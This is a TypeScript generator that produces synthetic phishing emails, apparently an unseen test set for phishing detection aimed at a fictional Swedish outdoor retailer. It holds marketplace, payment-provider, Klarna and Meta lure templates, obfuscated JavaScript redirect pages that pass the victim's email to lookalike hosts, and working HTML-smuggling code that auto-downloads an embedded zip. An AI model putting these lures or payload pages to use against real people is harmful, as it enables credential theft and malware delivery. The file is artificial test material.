// The twenty-third unseen set's phishing, in Swedish and English: what reaches Fjällspår AB, an online outdoor
// retailer in Gothenburg (corp.example). Marketplace suspensions, Meta and Google ad-account lures, payout and
// chargeback notices, customer complaints and influencer offers carrying malware, supplier bank changes, the
// CEO impersonated, BankID, Swish, PostNord and Skatteverket lures, Microsoft 365 credential, consent and
// device-code lures, QR codes, HTML attachments, archives, macro and OneNote files, callback scams and
// extortion. Written apart from the desk; the Danish, Norwegian and Finnish share is in unseen-23-local.ts.
import type { SeededRandom } from './generate.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, qrPng, zipOf } from './payloads.js';
import { LOCAL_PHISHING_23 } from './unseen-23-local.js';
import {
  type Addr,
  AP,
  addDays,
  addr,
  amount,
  type Block,
  BOX,
  b64ish,
  brandPhish,
  CEO,
  CFO,
  COMPANY,
  CONTROLLER,
  CS_SV,
  chance,
  compromisedSite,
  customer,
  DOMAIN,
  day,
  digits,
  ECOM,
  esc,
  FINANCE,
  freeHost,
  freemail,
  full,
  HR,
  hacked,
  hex,
  htmlFile,
  INFLUENCER,
  IT,
  int,
  type Lang,
  LOGISTICS,
  landing,
  letter,
  lnkFile,
  loginPage,
  lookalike,
  MARKETERS,
  MARKETING,
  MARKETPLACES,
  money,
  monthName,
  ORG,
  orderNo,
  PASS,
  PEOPLE,
  partnerLookalike,
  parts,
  pick,
  product,
  quoteHead,
  randomDate,
  redirectVia,
  registered,
  runTemplates,
  SUPPLIERS,
  SWEDES,
  scriptText,
  spoofed,
  type Template,
  token,
  upper,
  urlsafe,
  uuid,
  WAREHOUSE,
  zipWith,
} from './unseen-23-scene.js';
import { invitation, onePagePdf, protectedZip } from './unseen-payloads.js';

const T = (kind: string, name: string, make: Template['make']): Template => ({ kind, name, make });

function redirectPage(r: SeededRandom, to: string, email: string): string {
  return pick(r, [
    `<html><head><meta http-equiv="refresh" content="0; url=${to}#${Buffer.from(email).toString('base64')}"></head><body>Loading…</body></html>\n`,
    `<!DOCTYPE html><html><body><p>Please wait while your document loads…</p><script>window.location.replace(atob("${Buffer.from(to).toString('base64')}") + "?e=" + "${email}");</script></body></html>\n`,
    `<html><body><script>var _0x${hex(r, 4)}=["\\x68\\x72\\x65\\x66","${Buffer.from(to).toString('base64')}"];document.location[_0x${hex(r, 4)}=_0x${hex(r, 4)}||0,"href"]=atob("${Buffer.from(to).toString('base64')}");</script></body></html>\n`,
  ]);
}

function smugglingPage(r: SeededRandom, inner: string, innerBytes: Buffer, label: string): string {
  const blob = zipWith(inner, innerBytes).toString('base64');
  const v = `b${hex(r, 3)}`;
  return (
    `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>${esc(label)}</title></head>\n<body style="font-family:Arial">\n` +
    `<p>${esc(label)} – dokumentet laddas ner automatiskt. Om inget händer, klicka <a id="d" href="#">här</a>.</p>\n<script>\n` +
    `var ${v} = "${blob}";\n` +
    'function s(b){var r=atob(b),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a;}\n' +
    `var u = URL.createObjectURL(new Blob([s(${v})], {type: "application/zip"}));\n` +
    `var l = document.getElementById("d"); l.href = u; l.download = "${inner.replace(/\.[^.]+$/, '')}.zip"; l.click();\n` +
    '</script></body></html>\n'
  );
}

// ---------------------------------------------------------------------------------------------------------
// Marketplaces and the web shop

const amazonDeactivated = T('marketplace-suspension', 'amazon-seller-deactivated', (r) => {
  const d = randomDate(r);
  const look = pick(r, [
    lookalike(
      r,
      'sellercentral',
      ['appeals', 'review', 'notice', 'performance', 'eu'],
      ['com', 'net', 'support', 'help'],
    ),
    `amazon-seller-${pick(r, ['compliance', 'case', 'verify'])}.com`,
    `sellercentral-amazon.${pick(r, ['eu-review.net', 'account-health.com', 'appeal-center.org'])}`,
  ]);
  const caseId = digits(r, 11);
  const asins = Array.from({ length: int(r, 1, 3) }, () => `B0${upper(r, 8)}`);
  const href = landing(r, look, 'seller-appeal', `appeals/${caseId}?ref=ahd_${token(r, 6)}`);
  const market = pick(r, ['Amazon.se', 'Amazon.de', 'Amazon.se, Amazon.de, Amazon.nl']);
  const subject = pick(r, [
    `Your ${market.split(',')[0]} selling privileges have been deactivated`,
    'Action required: Your seller account is at risk of deactivation',
    `Policy warning – ASIN ${asins[0]} – intellectual property complaint`,
    `Notice of account deactivation [Case ${caseId}]`,
    'Your Amazon payments are on hold – Account Health',
  ]);
  return brandPhish(r, {
    brand: 'amazon seller central',
    color: '#232f3e',
    lang: 'en',
    to: pick(r, [addr(MARKETPLACES), addr(ECOM), BOX.ecom]),
    real: pick(r, ['amazon.se', 'amazon.com', 'marketplace.amazon.de']),
    look,
    names: [
      'Amazon Seller Central',
      'Seller Performance',
      'Amazon Services Europe',
      'Account Health Team',
      'Amazon.se Seller Support',
    ],
    locals: ['seller-notification', 'seller-performance', 'no-reply', 'accounthealth', 'notice'],
    subject,
    date: d,
    blocks: [
      pick(r, ['Hello,', 'Dear Seller,', `Hello ${COMPANY},`, 'Hello Fjallspar,']),
      pick(r, [
        `We are reaching out because your account's Account Health Rating has dropped below the threshold required to sell on ${market}. We received a rights owner complaint alleging that the listings below infringe their trademark.`,
        `Your seller account on ${market} has been deactivated because it does not comply with our policies. Our review found that the documents you provided do not match the information on your seller profile.`,
        `We have received customer complaints about the condition and authenticity of items you sold. As a result, your listings have been removed and your selling privileges will be deactivated on ${day(addDays(d, 2), 'en')}.`,
      ]),
      {
        rows: [
          ['Case ID', caseId],
          ['ASIN', asins.join(', ')],
          ['Marketplace', market],
          ['Funds on hold', money(amount(r, 20000, 240000), pick(r, ['SEK', 'EUR']), 'en')],
        ],
      },
      pick(r, [
        'To reactivate your account, submit a plan of action within **48 hours**. If we do not receive it, your listings will be removed permanently and funds in your account will be held for 90 days.',
        'You can appeal this decision. Please verify your account information and upload an invoice from your supplier. Accounts that do not respond within 72 hours are closed.',
      ]),
      {
        button: {
          label: pick(r, [
            'Submit appeal',
            'Verify account',
            'Reactivate selling privileges',
            'View account health',
          ]),
          href,
        },
      },
      pick(r, [
        'Sincerely,\nSeller Performance Team',
        'Regards,\nAmazon Services Europe S.à r.l.',
        'Thank you,\nAccount Health Team',
      ]),
    ],
    footer: [
      '© 1996-2026, Amazon.com, Inc. or its affiliates',
      'Amazon Services Europe S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg',
    ],
  });
});

const amazonKycHtml = T('seller-kyc-html', 'amazon-verification-html-form', (r) => {
  const to = pick(r, [addr(MARKETPLACES), addr(ECOM)]);
  const look = lookalike(
    r,
    'amzn',
    ['sellerverify', 'kyc', 'seller-docs', 'compliance'],
    ['com', 'net', 'xyz', 'top'],
  );
  const file = pick(r, [
    'Seller_Verification_Form.html',
    'KYC_Documents_Upload.htm',
    `Identity_Verification_${digits(r, 6)}.html`,
    'Amazon_Seller_Reinstatement.shtml',
  ]);
  const page = loginPage(
    r,
    'Amazon Seller Central',
    to.address,
    `https://${look}/${pick(r, ['post.php', 'api/v2/verify', 'next.php'])}`,
    'Seller identity verification',
  );
  return brandPhish(r, {
    brand: 'amazon seller central',
    color: '#232f3e',
    lang: 'en',
    to,
    real: 'amazon.se',
    look,
    names: ['Amazon Seller Verification', 'Seller Identity Verification', 'Amazon Services'],
    locals: ['kyc', 'verification', 'no-reply', 'seller-verification'],
    subject: pick(r, [
      'Seller identity verification required – documents incomplete',
      'Your account is under review: complete verification',
      `Reminder: verification due ${day(addDays(randomDate(r), 3), 'en')}`,
    ]),
    attachments: [htmlFile(file, page)],
    blocks: [
      'Hello,',
      pick(r, [
        'As part of our ongoing verification of sellers under the EU Digital Services Act, we need you to confirm your business details and the identity of the primary contact.',
        'We could not verify the information you provided. Until verification is complete, disbursements to your bank account are paused.',
      ]),
      `Please open the attached form (${file}), sign in and complete the requested fields. The form is valid for 24 hours.`,
      'Thank you for selling on Amazon.\nSeller Verification Team',
    ],
    modes: { spoof: 3, look: 4, hacked: 3 },
  });
});

const zalandoPayout = T('marketplace-payout-hold', 'zalando-payout-hold', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'zalando',
      ['partnerportal', 'partner-payouts', 'zdirect', 'merchantcenter'],
      ['com', 'net', 'eu', 'info'],
    ),
    `partner-zalando.${pick(r, ['com', 'eu', 'help'])}`,
  ]);
  const amt = amount(r, 40000, 600000);
  const ref = `ZP-${digits(r, 4)}-${upper(r, 6)}`;
  return brandPhish(r, {
    brand: 'zalando Partner Program',
    color: '#ff6900',
    lang: 'en',
    to: pick(r, [addr(MARKETPLACES), addr(ECOM), addr(CFO)]),
    real: pick(r, ['zalando.de', 'zalando.com']),
    look,
    names: [
      'Zalando Partner Program',
      'Zalando zDirect',
      'Partner Payments | Zalando SE',
      'Zalando Partner Support',
    ],
    locals: ['partner-payments', 'noreply', 'zdirect', 'partnerservice'],
    subject: pick(r, [
      'Your payout has been put on hold',
      `Payout ${ref}: bank details could not be verified`,
      'Action needed: confirm your payout account to avoid suspension',
      'Important update to Partner Program payment terms',
    ]),
    blocks: [
      pick(r, ['Dear Partner,', 'Hello,', `Dear ${COMPANY} team,`]),
      `Your next payout of **${money(amt, 'SEK', 'en')}** (reference ${ref}) could not be released because the bank account on file failed our automated verification.`,
      pick(r, [
        'To protect your account, we have temporarily restricted payouts. Please sign in to the Partner Portal and reconfirm your bank details within 3 business days.',
        'Under the new payment terms, all partners must confirm the receiving account and a company representative by signing in with their zDirect credentials.',
      ]),
      {
        button: {
          label: pick(r, ['Confirm bank details', 'Go to Partner Portal', 'Release payout']),
          href: landing(r, look, 'zdirect', `payouts/verify?ref=${ref}`),
        },
      },
      'Best regards,\nZalando Partner Payments',
    ],
    footer: [
      'Zalando SE · Valeska-Gert-Straße 5 · 10243 Berlin',
      'You are receiving this message as a partner of the Zalando Partner Program.',
    ],
  });
});

const cdonListings = T('marketplace-listing-removed', 'cdon-listings-removed', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'cdon',
      ['merchant', 'seller', 'marketplace', 'partner'],
      ['com', 'se.net', 'online', 'info'],
    ),
    `cdon-marketplace-support.com`,
  ]);
  const n = int(r, 12, 240);
  return brandPhish(r, {
    brand: 'CDON Marketplace',
    color: '#0e0e0e',
    lang: 'sv',
    to: pick(r, [addr(MARKETPLACES), BOX.ecom]),
    real: 'cdon.com',
    look,
    names: ['CDON Marketplace', 'CDON Merchant Support', 'CDON Handlarsupport'],
    locals: ['merchant', 'noreply', 'handlare', 'support'],
    subject: pick(r, [
      `${n} av dina produkter har avpublicerats`,
      'Ditt handlarkonto har begränsats – åtgärd krävs',
      'Viktigt: uppdatera dina företagsuppgifter senast i morgon',
    ]),
    blocks: [
      'Hej,',
      pick(r, [
        `Vi har avpublicerat ${n} av era produkter på CDON eftersom vi inte kunnat verifiera era företagsuppgifter enligt de nya reglerna för marknadsplatser.`,
        'Ert handlarkonto har begränsats efter flera kundklagomål om uteblivna leveranser. Utbetalningar är pausade tills vidare.',
      ]),
      'Logga in i Merchant Center och bekräfta era uppgifter inom 48 timmar för att undvika att kontot stängs.',
      {
        button: {
          label: pick(r, ['Logga in i Merchant Center', 'Verifiera konto', 'Se detaljer']),
          href: landing(r, look, 'cdon-merchant', `merchant/login?r=${token(r, 10)}`),
        },
      },
      'Med vänliga hälsningar\nCDON Merchant Support',
    ],
    footer: ['CDON AB, Box 385, 201 23 Malmö'],
  });
});

const buyerMessage = T('buyer-message-phish', 'amazon-buyer-message', (r) => {
  const look = lookalike(
    r,
    'sellercentral',
    ['messages', 'buyer-seller', 'inbox'],
    ['com', 'net', 'support'],
  );
  const order = `${int(r, 202, 408)}-${digits(r, 7)}-${digits(r, 7)}`;
  const p = product(r);
  const buyer = pick(r, ['Markus', 'Laura', 'Sophie', 'Thomas', 'Anna']);
  return brandPhish(r, {
    brand: 'amazon seller central',
    color: '#232f3e',
    lang: 'en',
    to: pick(r, [BOX.ecom, addr(MARKETPLACES), BOX.cs]),
    real: 'marketplace.amazon.se',
    look,
    names: [`${buyer} - Amazon Marketplace`, 'Amazon Marketplace', 'Buyer-Seller Messaging'],
    locals: ['messages', 'marketplace', 'no-reply'],
    subject: pick(r, [
      `Inquiry from Amazon customer ${buyer} (Order: ${order})`,
      `A-to-z Guarantee claim opened for order ${order}`,
      `Return request: ${p.en} (Order ${order})`,
    ]),
    blocks: [
      `You have received a message from buyer **${buyer}** regarding order ${order}.`,
      {
        rows: [
          ['Item', p.en],
          ['Order ID', order],
          ['Quantity', '1'],
        ],
      },
      pick(r, [
        '"Hello, the item I received is damaged and not the same as in the listing. I have uploaded photos, please check and refund me or I will open a claim."',
        '"I was charged twice for this order. Please see the bank statement I attached in the message centre."',
        `"The ${p.en.toLowerCase()} arrived broken. Photos are in the link. I need a solution today."`,
      ]),
      pick(r, [
        'Respond within 24 hours to avoid a negative impact on your Account Health.',
        'Sellers must respond within 48 hours. Late responses affect your performance metrics.',
      ]),
      {
        button: {
          label: pick(r, ['Reply to buyer', 'View message and photos', 'Respond to claim']),
          href: landing(r, look, 'buyer-msg', `messaging/thread/${uuid(r)}`),
        },
      },
    ],
    footer: [
      'Was this email helpful? Amazon.se Seller Central',
      'This message was sent by Amazon Buyer-Seller Messaging Service.',
    ],
    modes: { spoof: 3, look: 5, hacked: 2 },
  });
});

const shopifyClosure = T('ecommerce-store-closure', 'shopify-store-closure', (r) => {
  const store = pick(r, ['fjallspar', 'fjallspar-se', 'fjallspar-nordic']);
  const look = pick(r, [
    lookalike(
      r,
      'shopify',
      ['admin', 'storecare', 'merchant-review', 'compliance'],
      ['com', 'net', 'help', 'app'],
    ),
    `${store}-myshopify.com.${token(r, 4)}.${pick(r, ['xyz', 'top', 'shop'])}`,
  ]);
  const d = randomDate(r);
  return brandPhish(r, {
    brand: 'shopify',
    color: '#008060',
    lang: 'en',
    to: pick(r, [addr(ECOM), BOX.ecom, addr(IT)]),
    real: 'shopify.com',
    look,
    names: ['Shopify', 'Shopify Risk Team', 'Shopify Support', 'Shopify Merchant Compliance'],
    locals: ['no-reply', 'mailer', 'risk', 'compliance'],
    subject: pick(r, [
      `Your store ${store}.myshopify.com will be closed in 24 hours`,
      'Store paused: violation of the Acceptable Use Policy',
      `Final notice: ${store} – chargeback rate above threshold`,
    ]),
    date: d,
    blocks: [
      'Hi there,',
      pick(r, [
        `We've identified activity on **${store}.myshopify.com** that violates Shopify's Acceptable Use Policy (selling counterfeit goods). Your store has been paused and will be closed on ${day(addDays(d, 1), 'en')}.`,
        `Your store's chargeback rate has exceeded 1% over the last 30 days. To prevent closure, a store owner must confirm the account and answer a short questionnaire.`,
      ]),
      'If you believe this is a mistake, you can submit an appeal from your admin. Appeals not received before the deadline cannot be considered.',
      {
        button: {
          label: pick(r, ['Submit an appeal', 'Review store status', 'Log in to Shopify admin']),
          href: landing(r, look, 'shopify-appeal', `admin/store/${store}/appeal`),
        },
      },
      'Thanks,\nThe Shopify Team',
    ],
    footer: [
      'Shopify International Limited, Victoria Buildings, 2nd Floor, 1-2 Haddington Road, Dublin 4, D04 XN32, Ireland',
    ],
  });
});

const shopifyPayout = T('psp-payout-paused', 'shopify-payments-payout-paused', (r) => {
  const look = lookalike(
    r,
    'shopify',
    ['payments', 'payouts', 'balance', 'billing'],
    ['com', 'net', 'support', 'online'],
  );
  const amt = amount(r, 18000, 380000);
  return brandPhish(r, {
    brand: 'shopify',
    color: '#008060',
    lang: 'en',
    to: pick(r, [addr(ECOM), addr(CFO), addr(CONTROLLER)]),
    real: 'shopify.com',
    look,
    names: ['Shopify Payments', 'Shopify', 'Shopify Balance'],
    locals: ['payments-noreply', 'no-reply', 'payouts'],
    subject: pick(r, [
      'Action required: Your payouts are paused',
      `Payout of ${money(amt, 'SEK', 'en')} failed`,
      'Update your banking information to receive payouts',
    ]),
    blocks: [
      'Hi Fjällspår,',
      pick(r, [
        `We tried to send your payout of **${money(amt, 'SEK', 'en')}** but your bank returned it. Payouts are paused until you verify your banking information.`,
        'Your Shopify Payments account needs additional verification. Until it is completed, your payouts are on hold and you may lose the ability to accept payments.',
      ]),
      {
        button: {
          label: pick(r, ['Update banking information', 'Verify now', 'Resume payouts']),
          href: landing(r, look, 'shopify-pay', `settings/payments/verify?id=${digits(r, 10)}`),
        },
      },
      'Questions? Reply to this email or visit the Help Center.\nShopify Payments',
    ],
    footer: ['Shopify International Limited, Dublin 4, Ireland'],
  });
});

const stripeVerify = T('psp-kyc-update', 'stripe-business-verification', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'stripe',
      ['dashboard', 'verify', 'connect', 'account-update'],
      ['com', 'net', 'io', 'support'],
    ),
    `dashboard-stripe.${pick(r, ['com', 'net', 'app'])}`,
  ]);
  const acct = `acct_1${urlsafe(r, 15).replace(/[-_]/g, 'Q')}`;
  const d = randomDate(r);
  return brandPhish(r, {
    brand: 'stripe',
    color: '#635bff',
    lang: 'en',
    to: pick(r, [addr(ECOM), addr(CFO), addr(CONTROLLER)]),
    real: 'stripe.com',
    look,
    names: ['Stripe', 'Stripe Support', 'Stripe Compliance'],
    locals: ['notifications', 'support', 'no-reply', 'compliance'],
    subject: pick(r, [
      'Update your business details to keep receiving payouts',
      `Your Stripe account ${acct} requires attention`,
      `Payouts will be paused on ${day(addDays(d, 3), 'en')}`,
    ]),
    date: d,
    blocks: [
      'Hi there,',
      `We need more information about ${COMPANY} to keep your account (${acct}) in good standing. To comply with EU financial regulations (PSD2 and AMLD), we must verify the identity of the business representative.`,
      `If this information isn't provided by **${day(addDays(d, 3), 'en')}**, payouts to your bank account will be paused.`,
      {
        button: {
          label: pick(r, ['Update information', 'Provide details', 'Go to Dashboard']),
          href: landing(r, look, 'stripe-verify', `account/onboarding/${acct}`),
        },
      },
      '— The Stripe team',
    ],
    footer: ['Stripe Technology Europe, Ltd., 1 Grand Canal Street Lower, Dublin 2, Ireland'],
  });
});

const stripeDisputeHtml = T('chargeback-html', 'stripe-dispute-html-attachment', (r) => {
  const to = pick(r, [addr(CFO), addr(CONTROLLER), addr(ECOM), BOX.finance]);
  const look = lookalike(r, 'stripe', ['disputes', 'resolution', 'evidence'], ['com', 'net', 'top']);
  const dp = `dp_1${urlsafe(r, 20).replace(/[-_]/g, 'x')}`;
  const amt = amount(r, 900, 14000);
  const cur = pick(r, ['SEK', 'EUR', 'NOK', 'DKK']);
  const file = pick(r, [
    `Dispute_${dp.slice(0, 12)}.html`,
    'Dispute_Evidence_Form.htm',
    `chargeback_notice_${digits(r, 5)}.html`,
  ]);
  const content = chance(r, 0.5)
    ? loginPage(
        r,
        'Stripe – Sign in',
        to.address,
        `https://${look}/api/session`,
        'Sign in to respond to the dispute',
      )
    : redirectPage(r, `https://${look}/disputes/${dp}`, to.address);
  return brandPhish(r, {
    brand: 'stripe',
    color: '#635bff',
    lang: 'en',
    to,
    real: 'stripe.com',
    look,
    names: ['Stripe', 'Stripe Disputes', 'Stripe Notifications'],
    locals: ['notifications', 'disputes', 'no-reply'],
    subject: pick(r, [
      `A payment of ${money(amt, cur, 'en')} has been disputed`,
      `New dispute: ${dp.slice(0, 14)}… – respond within 7 days`,
      `Chargeback received for ${money(amt, cur, 'en')}`,
    ]),
    attachments: [htmlFile(file, content)],
    blocks: [
      'Hello,',
      `A customer's bank has disputed a payment of **${money(amt, cur, 'en')}** to ${COMPANY}. Reason: ${pick(r, ['Fraudulent', 'Product not received', 'Product unacceptable', 'Duplicate'])}.`,
      `The disputed amount and a ${money(15, 'EUR', 'en')} fee have been withdrawn from your balance. You can submit evidence to challenge the dispute.`,
      `The dispute details and the evidence form are attached (${file}). Open it in your browser to respond.`,
      '— The Stripe team',
    ],
    modes: { spoof: 3, look: 3, hacked: 3, free: 1 },
  });
});

const adyenChargebackPdf = T('chargeback-pdf', 'adyen-chargeback-pdf', (r) => {
  const to = pick(r, [addr(CFO), addr(CONTROLLER), BOX.finance, addr(ECOM)]);
  const look = lookalike(
    r,
    'adyen',
    ['disputes', 'customer-area', 'ca-live', 'notifications'],
    ['com', 'net', 'online'],
  );
  const psp = digits(r, 16);
  const amt = amount(r, 1200, 22000);
  const link = pick(r, [
    `https://${look}/ca/disputes/${psp}`,
    `https://ipfs.io/ipfs/bafybei${token(r, 52)}?filename=dispute.html`,
    `${freeHost(r, 'adyen-ca')}dispute/${psp}`,
  ]);
  const pdf = onePagePdf(
    [
      'Adyen N.V. – Notification of Dispute',
      `Merchant account: FjallsparAB_ECOM`,
      `PSP reference: ${psp}`,
      `Amount: ${money(amt, 'SEK', 'en')}`,
      `Reason code: ${pick(r, ['10.4 Other Fraud – Card Absent', '13.1 Merchandise Not Received', '4853 Cardholder Dispute'])}`,
      'Defense period: 7 days',
      'To submit defense documents, open the dispute in the Customer Area:',
      'View dispute and upload documents',
    ],
    { link },
  );
  return brandPhish(r, {
    brand: 'Adyen',
    color: '#0abf53',
    lang: 'en',
    to,
    real: 'adyen.com',
    look,
    names: ['Adyen Disputes', 'Adyen', 'Adyen Risk Operations'],
    locals: ['disputes', 'noreply', 'notifications'],
    subject: pick(r, [
      `Notification of Chargeback – PSP ${psp}`,
      'Dispute notification: action required',
      `Chargeback ${money(amt, 'SEK', 'en')} – defense documents needed`,
    ]),
    attachments: [
      {
        filename: pick(r, [`Chargeback_${psp}.pdf`, 'Dispute_Notification.pdf', `NoC_${digits(r, 6)}.pdf`]),
        type: 'application/pdf',
        content: pdf,
      },
    ],
    blocks: [
      'Dear merchant,',
      `We have received a chargeback for a transaction processed on your merchant account. Details are in the attached notification (PSP reference ${psp}).`,
      'Please submit your defense documents within the defense period. Chargebacks that are not defended are automatically accepted.',
      'Kind regards,\nAdyen Dispute Management',
    ],
    modes: { spoof: 3, look: 4, hacked: 3 },
  });
});

const klarnaMerchant = T('bnpl-merchant', 'klarna-merchant-settlement', (r) => {
  const look = pick(r, [
    lookalike(
      r,
      'klarna',
      ['merchant', 'portal', 'handlare', 'settlement'],
      ['com', 'se.net', 'online', 'info'],
    ),
    'klarna-merchantportal.com',
  ]);
  const amt = amount(r, 60000, 900000);
  return brandPhish(r, {
    brand: 'Klarna.',
    color: '#17120f',
    lang: 'sv',
    to: pick(r, [addr(CFO), addr(CONTROLLER), addr(ECOM)]),
    real: 'klarna.com',
    look,
    names: ['Klarna Merchant Support', 'Klarna', 'Klarna Handlarservice'],
    locals: ['merchant-noreply', 'noreply', 'settlements'],
    subject: pick(r, [
      'Utbetalning pausad – bekräfta era kontouppgifter',
      `Avräkning ${money(amt, 'SEK', 'sv')} kunde inte genomföras`,
      'Viktigt: ny inloggning krävs till Merchant Portal',
    ]),
    blocks: [
      'Hej,',
      `Er kommande avräkning på **${money(amt, 'SEK', 'sv')}** har pausats eftersom vi behöver bekräfta de kontouppgifter som är registrerade för ${COMPANY}.`,
      'Logga in i Klarna Merchant Portal med BankID och bekräfta uppgifterna. Om vi inte får bekräftelsen inom två bankdagar skickas beloppet tillbaka till reservkontot.',
      {
        button: {
          label: pick(r, ['Logga in med BankID', 'Bekräfta uppgifter', 'Till Merchant Portal']),
          href: landing(r, look, 'klarna-mp', `settlements/confirm?m=${digits(r, 5)}`),
        },
      },
      'Vänliga hälsningar\nKlarna Merchant Support',
    ],
    footer: ['Klarna Bank AB (publ), Sveavägen 46, 111 34 Stockholm'],
  });
});

const klarnaCallback = T('callback-purchase', 'klarna-purchase-callback', (r) => {
  const to = addr(pick(r, PEOPLE));
  const amt = pick(r, [12499, 14990, 8995, 21450, 6799]);
  const shop = pick(r, ['Elgiganten', 'NetOnNet', 'Apple Store', 'Webhallen', 'Power']);
  const tel = pick(r, ['+46 10 888 42 17', '+46 8 446 921 30', '010-750 38 92', '+46 77 233 10 84']);
  const from: Addr = pick(r, [
    { name: 'Klarna', address: freemail(r, 'klarna.kundservice') },
    {
      name: 'Klarna Kundservice',
      address: `noreply@${lookalike(r, 'klarna', ['kund', 'order', 'bekraftelse'], ['com', 'info'])}`,
    },
    { name: 'Klarna Order', address: hacked(r).address },
  ]);
  const kind = pick(r, ['text', 'pdf']);
  const ref = `KL-${digits(r, 9)}`;
  const lines = [
    'Hej,',
    `Tack för ditt köp hos ${shop}. Din betalning på **${money(amt, 'SEK', 'sv')}** med Klarna har godkänts.`,
    {
      rows: [
        ['Ordernummer', ref],
        ['Butik', shop],
        ['Betalsätt', pick(r, ['Faktura 30 dagar', 'Delbetalning 24 mån'])],
        ['Belopp', money(amt, 'SEK', 'sv')],
      ],
    } as Block,
    `Känner du inte igen köpet? Ring vår bedrägeriavdelning direkt på **${tel}** (vardagar 08–20) så stoppar vi betalningen innan den dras.`,
    'Med vänliga hälsningar\nKlarna Kundservice',
  ];
  return {
    from,
    to,
    subject: pick(r, [
      `Din order ${ref} är bekräftad`,
      `Köp godkänt: ${money(amt, 'SEK', 'sv')}`,
      `Kvitto för ditt köp hos ${shop}`,
    ]),
    auth: from.address.includes('@klarna') ? registered(r) : PASS,
    via: from.address.endsWith('gmail.com') ? 'gmail' : 'direct',
    lang: 'sv',
    attachments:
      kind === 'pdf'
        ? [
            {
              filename: `Kvitto_${ref}.pdf`,
              type: 'application/pdf',
              content: onePagePdf([
                'Klarna – Orderbekräftelse',
                `Order ${ref}`,
                `${shop}: ${money(amt, 'SEK', 'sv')}`,
                `Frågor om köpet? Ring ${tel}`,
              ]),
            },
          ]
        : undefined,
    ...letter({
      style: chance(r, 0.6) ? 'branded' : 'plain',
      parts: parts(r, 0.3, 0.3),
      brand: 'Klarna.',
      color: '#ffb3c7',
      lang: 'sv',
      blocks: lines,
    }),
  };
});

// ---------------------------------------------------------------------------------------------------------
// Marketing: Meta, Google, reviews, influencers

const metaCopyright = T('social-copyright-takedown', 'meta-page-copyright', (r) => {
  const d = randomDate(r);
  const host = pick(r, [
    `${freeHost(r, 'meta-appeal')}case/${digits(r, 12)}`,
    `https://${lookalike(r, 'meta', ['business-appeal', 'pagesupport', 'rights-center', 'help-case'], ['com', 'net', 'online'])}/appeal/${digits(r, 15)}`,
    `https://www.facebook.com/${pick(r, ['MetaSupportCenter.Official', 'pages.policy.review', 'CopyrightTeam.Meta'])}.${digits(r, 4)}`,
    `https://forms.gle/${urlsafe(r, 17)}`,
  ]);
  const ticket = `#${digits(r, 10)}`;
  const from: Addr = pick(r, [
    { name: 'Meta Support', address: freemail(r, 'meta.support.case') },
    {
      name: 'Meta for Business',
      address: `no-reply@${lookalike(r, 'meta', ['businesshelp', 'policy-review', 'pages'], ['com', 'net', 'info'])}`,
    },
    { name: 'Facebook Page Support', address: hacked(r).address },
    {
      name: 'Meta Pro Team',
      address: `notification@${pick(r, ['facebookmail.com', 'support.facebook.com'])}`,
    },
  ]);
  const spoof = from.address.endsWith('facebookmail.com') || from.address.endsWith('facebook.com');
  return {
    from,
    to: pick(r, [addr(MARKETING), BOX.marketing, addr(INFLUENCER)]),
    subject: pick(r, [
      'Your page has been scheduled for permanent deletion',
      `Copyright infringement notice – Page Fjällspår ${ticket}`,
      'Final warning: your Page violates our intellectual property policies',
      'Meta Business: your Page is restricted',
    ]),
    date: d,
    auth: spoof ? spoofed(r) : registered(r),
    via: from.address.endsWith('gmail.com') ? 'gmail' : spoof ? 'vps' : 'direct',
    lang: 'en',
    ...letter({
      style: chance(r, 0.6) ? 'branded' : 'plain',
      parts: parts(r, 0.4, 0.2),
      brand: 'Meta',
      color: '#0866ff',
      lang: 'en',
      blocks: [
        pick(r, ['Hello,', 'Dear Page Admin,', 'Dear Fjällspår,']),
        pick(r, [
          'We have received a report that your Page uses copyrighted content without permission. Your Page has been scheduled for permanent deletion and your advertising account may be restricted.',
          'Your Page was found to have posted content that infringes the intellectual property rights of another party. This violates our Community Standards.',
        ]),
        `If you believe this is a mistake, you can submit an appeal. If we do not receive an appeal by ${day(addDays(d, 1), 'en')}, the decision is final. Ticket ${ticket}.`,
        {
          button: {
            label: pick(r, ['Submit appeal', 'Request review', 'Verify Page ownership']),
            href: host,
          },
        },
        'Thank you,\nThe Facebook Team\nMeta Platforms, Inc., Attention: Community Support, 1 Facebook Way, Menlo Park, CA 94025',
      ],
    }),
  };
});

const metaAdAccount = T('ad-account-restricted', 'meta-ad-account-restricted', (r) => {
  const look = pick(r, [
    `business.facebook.com.${pick(r, ['account-review', 'ads-support', 'case-center'])}-${int(r, 10, 999)}.com`,
    lookalike(r, 'metaads', ['review', 'restore', 'billing'], ['com', 'net', 'online']),
  ]);
  const act = digits(r, 15);
  return brandPhish(r, {
    brand: 'Meta Business Suite',
    color: '#0866ff',
    lang: 'en',
    to: pick(r, [addr(MARKETING), BOX.marketing, addr(ECOM)]),
    real: 'support.facebook.com',
    look,
    names: ['Meta Ads', 'Meta for Business', 'Meta Business Support', 'Facebook Ads'],
    locals: ['advertise-noreply', 'ads-review', 'noreply'],
    subject: pick(r, [
      `Your ad account ${act} has been restricted`,
      'Unusual activity detected on your ad account',
      'Your ads have been paused due to a payment issue',
      'Action required: confirm the identity of your ad account admin',
    ]),
    blocks: [
      'Hi,',
      pick(r, [
        `We restricted your ad account (${act}) because of unusual activity, which may mean someone else had access. Your ads have stopped running.`,
        `Your ad account (${act}) has an unpaid balance of ${money(amount(r, 3000, 48000), 'SEK', 'en')}. Your ads will not run until the payment method is confirmed.`,
      ]),
      'To restore access, please confirm your identity and review the account. This takes about 5 minutes.',
      {
        button: {
          label: pick(r, ['Request review', 'Go to Account Quality', 'Confirm identity']),
          href: landing(r, look, 'meta-aq', `accountquality/${act}`),
        },
      },
      'Meta Business Support',
    ],
    footer: ['Meta Platforms Ireland Ltd., Merrion Road, Dublin 4, D04 X2K5, Ireland'],
  });
});

const metaInvite = T('business-manager-invite', 'meta-business-manager-invite', (r) => {
  const agency = pick(r, [
    'Nordic Growth Media',
    'Peak Reach Agency',
    'Trailhead Social AB',
    'Boost Nordics',
  ]);
